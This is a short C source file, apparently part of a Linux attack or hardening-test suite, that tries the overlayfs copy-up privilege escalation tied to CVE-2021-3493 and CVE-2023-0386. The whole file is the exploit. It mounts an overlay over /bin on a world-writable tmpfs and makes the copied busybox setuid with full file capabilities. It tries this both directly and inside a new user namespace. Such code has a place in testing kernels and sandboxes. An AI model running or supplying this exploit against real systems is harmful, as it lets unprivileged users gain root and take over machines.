/* Makes an overlay over files that are not its own, to have them copied up with powers (CVE-2021-3493, CVE-2023-0386). */
#include "common/attack.h"

static void over(void) {
    char options[512], path[160];
    const char *base = mounted("tmpfs", "mode=777");
    if (!base) {
        return;
    }
    static const char *parts[] = {"lower", "upper", "work", "merged"};
    for (unsigned i = 0; i < 4; i++) {
        snprintf(path, sizeof path, "%s/%s", base, parts[i]);
        mkdir(path, 0777);
    }
    snprintf(options, sizeof options, "lowerdir=%s/lower:/bin,upperdir=%s/upper,workdir=%s/work", base, base, base);
    snprintf(path, sizeof path, "%s/merged", base);
    TRY(mount("overlay", path, "overlay", 0, options));
    snprintf(path, sizeof path, "%s/merged/busybox", base);
    TRY(chmod(path, 06777));
    struct vfs_cap_data caps = {VFS_CAP_REVISION_2 | VFS_CAP_FLAGS_EFFECTIVE, {{~0u, 0}, {~0u, 0}}};
    TRY(setxattr(path, "security.capability", &caps, XATTR_CAPS_SZ_2, 0));
}

static void inside(void) {
    TRY(unshare(CLONE_NEWUSER | CLONE_NEWNS));
    over();
}

static void attempt(void) {
    over();
    apart(inside, 5);
}
